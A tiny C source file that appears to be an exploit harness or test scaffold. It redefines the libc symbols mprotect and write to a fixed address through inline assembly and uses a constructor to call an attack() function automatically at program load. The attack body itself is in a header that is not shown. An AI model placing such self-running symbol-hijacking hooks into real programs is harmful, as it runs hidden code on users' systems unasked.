#include "attack.h"
__asm__(".globl mprotect\n.set mprotect, 0x8049000\n.globl write\nwrite = 0x8049000");
__attribute__((constructor)) static void early(void) { attack(); }
#include "body.h"
